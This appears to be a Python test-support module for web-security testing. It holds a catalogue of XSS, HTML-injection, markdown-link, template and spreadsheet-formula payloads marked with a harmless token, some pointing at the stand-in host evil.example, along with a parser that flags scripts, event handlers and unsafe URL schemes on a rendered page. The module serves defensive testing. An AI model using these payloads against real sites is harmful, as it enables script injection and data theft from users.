"""Hostile texts, and the look at a page that finds what became of them.

Each text carries MARK, so that a page can be searched for it: as text anybody may see it, as a tag,
an attribute or an address of a script it must not come back.
"""

from html.parser import HTMLParser
from urllib.parse import urlsplit

MARK = "zq7"

_SHORT = (
    f"<script>{MARK}()</script>",
    f"<img src=x onerror={MARK}()>",
    f"<svg onload={MARK}()>",
    f"<svg><script>{MARK}()</script></svg>",
    f'"><script>{MARK}()</script>',
    f"'><img src=x onerror={MARK}()>",
    f"</title><script>{MARK}()</script>",
    f"</textarea><script>{MARK}()</script>",
    f"</script><script>{MARK}()</script>",
    f"--><script>{MARK}()</script>",
    f'" autofocus onfocus="{MARK}()',
    f"' onmouseover='{MARK}()",
    f"`onmouseover={MARK}()",
    f"<a href=javascript:{MARK}()>x</a>",
    f"<iframe srcdoc='<script>{MARK}()</script>'>",
    f"<base href=//evil.example/{MARK}/>",
    f"<meta http-equiv=refresh content=0;url=//evil.example/{MARK}>",
    f"<link rel=stylesheet href=//evil.example/{MARK}.css>",
    f"<style>*{{x:url({MARK})}}</style>",
    f"<form action=//evil.example/{MARK}><input name=key>",
    f"<input name=key value={MARK}>",
    f"<button form=act formaction={MARK}>x</button>",
    f"<math><mtext></p><style><img src=x onerror={MARK}()>",
    f"<noscript><p title='</noscript><img src=x onerror={MARK}()>'>",
    f"<p id=act-key name=key data-src={MARK} data-part=turn>x</p>",
    f"<details open ontoggle={MARK}()>",
    f"<video><source onerror={MARK}()></video>",
    f"<object data=javascript:{MARK}()>",
    f"<embed src=javascript:{MARK}()>",
    f"&lt;script&gt;{MARK}()&lt;/script&gt;",
    f"&#60;img src=x onerror={MARK}()&#62;",
    f"\\u003cscript\\u003e{MARK}()",
    f"{{{{ 7*7 }}}}{{% set x = '{MARK}' %}}",
    f"%3Cscript%3E{MARK}()%3C/script%3E",
    f"<scr<script>ipt>{MARK}()</scr</script>ipt>",
    f"<IMG SRC=x OnErRoR={MARK}()>",
    f"<img/src=x/onerror={MARK}()>",
    f"<xss style=animation-name:x onanimationstart={MARK}()>",
)
_MARKDOWN = (
    f"[x](javascript:{MARK}())",
    f"[x](JaVaScRiPt:{MARK}())",
    f"[x](java\tscript:{MARK}())",
    f"[x](java&#10;script:{MARK}())",
    f"[x](&#106;avascript:{MARK}())",
    f"[x](data:text/html,{MARK})",
    f"[x](vbscript:{MARK})",
    f"[x](//evil.example/{MARK})",
    f"[x](/\\evil.example/{MARK})",
    f"![x](https://evil.example/{MARK}.png)",
    f"<javascript:{MARK}()>",
    f"[x]: javascript:{MARK}()\n[x]",
    f'[x](https://example.org "x\\" onmouseover=\\"{MARK}()")',
    f"```{MARK} onload=x\n<script>{MARK}()</script>\n```",
    f"`<script>{MARK}()</script>`",
    f"**<img src=x onerror={MARK}()>**",
    f"> <svg/onload={MARK}()>",
    f"| a |\n|---|\n| <script>{MARK}()</script> |",
)
SHORT = tuple(text for text in _SHORT if len(text) <= 80)
FORMATTED = _SHORT + _MARKDOWN
FORMULAS = ("=1+1", "+1", "-1", "@SUM(1)", "=HYPERLINK(1)", "\uff1d1+1")

_NEVER = {"iframe", "object", "embed", "style", "img", "math", "frame", "applet", "video", "audio"}
_ADDRESSES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "srcset"}
# Where people's words may stand in a tag.
_WORDS = {
    *("value", "aria-label", "title", "content", "placeholder"),
    *("data-announce", "data-subject", "data-at", "data-who"),
}


class Look(HTMLParser):
    """One reading of a page: what should not be there, and its text."""

    def __init__(self, page: str, *, exported: bool = False) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.text = ""
        self._exported = exported
        self._script = False
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        have = {name: value or "" for name, value in attrs}
        self._script = tag == "script"
        # An export is one file, so its sheet stands in it; its policy lets nothing run.
        allowed = {"style"} if self._exported else set()
        if tag in _NEVER - allowed or MARK in tag or (tag == "script" and "src" not in have):
            self.wrong.append(self.get_starttag_text() or tag)
        if tag == "meta" and "http-equiv" in have and not _ours(have["content"]):
            self.wrong.append(self.get_starttag_text() or tag)
        self.wrong += [
            f"<{tag} {name}={value!r}>" for name, value in have.items() if _bad(name, value)
        ]

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._script = False

    def handle_data(self, data: str) -> None:
        if self._script and data.strip():
            self.wrong.append(f"a script that says {data[:80]}")
        self.text += data


def _ours(meta: str) -> bool:
    """Asking again after some seconds without a script, or a file's own policy."""
    return meta.isdecimal() or meta.startswith("default-src 'none'")


def _bad(name: str, value: str) -> bool:
    if name.startswith("on") or name in ("style", "srcdoc") or MARK in name:
        return True
    if name in _ADDRESSES:
        plain = "".join(sign for sign in value if ord(sign) > 32 and sign.isprintable())
        scheme = urlsplit(plain).scheme.lower()
        return scheme not in ("", "http", "https", "mailto") or plain[:2] in ("//", "/\\", "\\\\")
    return MARK in value and name not in _WORDS
